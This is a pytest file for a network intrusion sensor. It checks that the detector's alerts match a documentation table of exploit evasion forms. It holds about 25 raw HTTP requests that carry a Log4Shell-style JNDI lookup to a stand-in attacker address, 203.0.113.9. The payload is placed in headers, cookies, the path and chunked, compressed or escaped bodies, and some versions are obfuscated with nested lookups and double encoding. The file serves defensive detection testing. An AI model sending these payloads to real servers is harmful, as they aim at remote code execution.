"""The second table of docs/understand/evasions.md: one exploit in different forms of HTTP requests."""

from __future__ import annotations

import gzip
from pathlib import Path

import pytest

from sensor.config import load_config
from sensor.core.record import Record
from sensor.core.time_units import SECOND
from sensor.runtime.assembly import assemble
from tests import sampling
from tests.kit import batch_of, tcp_frame

PAGE = Path(__file__).parents[2] / "docs/understand/evasions.md"
ATTACKER, SERVER = "203.0.113.9", "10.0.0.5"
HOST = b"\r\nHost: shop.example\r\n"
LOOKUP = b"${jndi:ldap://203.0.113.9/a}"


def post(body: bytes, fields: bytes = b"") -> bytes:
    return (
        b"POST /login HTTP/1.1"
        + HOST
        + b"Content-Type: application/json\r\nContent-Length: %d\r\n" % len(body)
        + fields
        + b"\r\n"
        + body
    )


def chunked(body: bytes, size: int, extension: bytes = b"") -> bytes:
    parts = [body[at : at + size] for at in range(0, len(body), size)]
    lines = b"".join(b"%x%s\r\n%s\r\n" % (len(part), extension, part) for part in parts)
    return (
        b"POST /login HTTP/1.1"
        + HOST
        + b"Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
        + lines
        + b"0\r\n\r\n"
    )


FORMS = {
    "User-Agent": b"GET / HTTP/1.1" + HOST + b"User-Agent: " + LOOKUP + b"\r\n\r\n",
    "unusual header field": b"GET / HTTP/1.1" + HOST + b"X-Api-Version: " + LOOKUP + b"\r\n\r\n",
    "Content-Type": b"GET / HTTP/1.1" + HOST + b"Content-Type: " + LOOKUP + b"\r\n\r\n",
    "Cookie": b"GET / HTTP/1.1" + HOST + b"Cookie: lang=en; id=" + LOOKUP + b"\r\n\r\n",
    "case of field and scheme": b"GET / HTTP/1.1" + HOST + b"uSER-aGENT: ${JnDi:LDAP://203.0.113.9/a}\r\n\r\n",
    "nested lookups": b"GET / HTTP/1.1" + HOST + b"User-Agent: ${${lower:j}ndi:${lower:l}dap://203.0.113.9/a}\r\n\r\n",
    "default values": b"GET / HTTP/1.1" + HOST + (
        b"User-Agent: "
        b"${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://203.0.113.9/a}\r\n\r\n"
    ),
    "path": b"GET /?q=" + LOOKUP + b" HTTP/1.1" + HOST + b"\r\n",
    "percent-encoding": b"GET /?q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D HTTP/1.1" + HOST + b"\r\n",
    "double percent-encoding": (
        b"GET /?q=%2524%257Bjndi%253Aldap%253A%252F%252F203.0.113.9%252Fa%257D "
        b"HTTP/1.1"
    ) + HOST + b"\r\n",
    "absolute-form": b"GET http://shop.example/?q=" + LOOKUP + b" HTTP/1.1" + HOST + b"\r\n",
    "HTTP/1.0": b"GET / HTTP/1.0\r\nUser-Agent: " + LOOKUP + b"\r\n\r\n",
    "unknown method": b"FROB / HTTP/1.1" + HOST + b"User-Agent: " + LOOKUP + b"\r\n\r\n",
    "no space after the colon": b"GET / HTTP/1.1" + HOST + b"User-Agent:" + LOOKUP + b"\r\n\r\n",
    "line feeds only": b"GET / HTTP/1.1\nHost: shop.example\nUser-Agent: " + LOOKUP + b"\n\n",
    "folded field": b"GET / HTTP/1.1" + HOST + b"User-Agent: x\r\n " + LOOKUP + b"\r\n\r\n",
    "pipelined request": b"GET /a HTTP/1.1" + HOST + b"\r\nGET / HTTP/1.1" + HOST + b"User-Agent: " + LOOKUP + b"\r\n\r\n",
    "long field before": b"GET / HTTP/1.1" + HOST + b"Cookie: " + b"a=b; " * 600 + b"\r\nUser-Agent: " + LOOKUP + b"\r\n\r\n",
    "very long field before": b"GET / HTTP/1.1" + HOST + b"Cookie: " + b"a=b; " * 1400 + b"\r\nUser-Agent: " + LOOKUP + b"\r\n\r\n",
    "body": post(b'{"user": "' + LOOKUP + b'"}'),
    "chunked body": chunked(b'{"user": "' + LOOKUP + b'"}', 64),
    "chunks of 3 bytes": chunked(b'{"user": "' + LOOKUP + b'"}', 3),
    "chunk extensions": chunked(b'{"user": "' + LOOKUP + b'"}', 8, b";x=1"),
    "compressed body": post(gzip.compress(b'{"user": "' + LOOKUP + b'"}'), b"Content-Encoding: gzip\r\n"),
    "JSON escapes": post(b'{"user": "\\u0024\\u007bjndi:ldap://203.0.113.9/a}"}'),
}  # fmt: skip


def reported(request: bytes, size: int) -> bool:
    """Whether a request, in segments of ``size`` bytes, is reported as an exploit attempt of its sender."""
    ends = {"sport": 40000, "dport": 8080}
    frames = [
        tcp_frame(ATTACKER, SERVER, flags=2, seq=0, **ends),
        tcp_frame(SERVER, ATTACKER, flags=18, seq=0, sport=8080, dport=40000),
    ]
    frames += [
        tcp_frame(ATTACKER, SERVER, request[at : at + size], seq=1 + at, **ends) for at in range(0, len(request), size)
    ]
    records: list[Record] = []
    engine = assemble(load_config(None), records.append)
    engine.process(batch_of(frames, times=[1_000_000 * SECOND + n * 1000 for n in range(len(frames))]))
    engine.finish()
    assert not list(engine.boundary.faults.values())
    return any(
        record.kind == "alert"
        and isinstance(record.alert, dict)
        and record.alert["detector"] == "initial_access.exploit_attempt"
        for record in records
    )


def table() -> dict[str, bool]:
    """Form → whether the page lists it as detected."""
    rows = [
        [cell.strip() for cell in line.strip("|").split("|")]
        for line in PAGE.read_text("utf-8").splitlines()
        if line.startswith("| ")
    ]
    return {cells[0]: cells[1] == "yes" for cells in rows if len(cells) == 2 and cells[1] in ("yes", "no")}


def test_the_page_lists_all_forms() -> None:
    """The page lists exactly the forms, in their order."""
    assert list(table()) == list(FORMS)


@pytest.mark.parametrize("form", sampling.drawn(list(FORMS), 6, "forms of an exploit"))
def test_an_exploit_in_another_form(form: str) -> None:
    """The result is that of the page, in one segment or many; the request without the look-up is not reported."""
    assert reported(FORMS[form], 1400) == reported(FORMS[form], 16) == table()[form]
    if LOOKUP in FORMS[form]:
        assert not reported(FORMS[form].replace(LOOKUP, b"curl/8.5.0"), 1400)
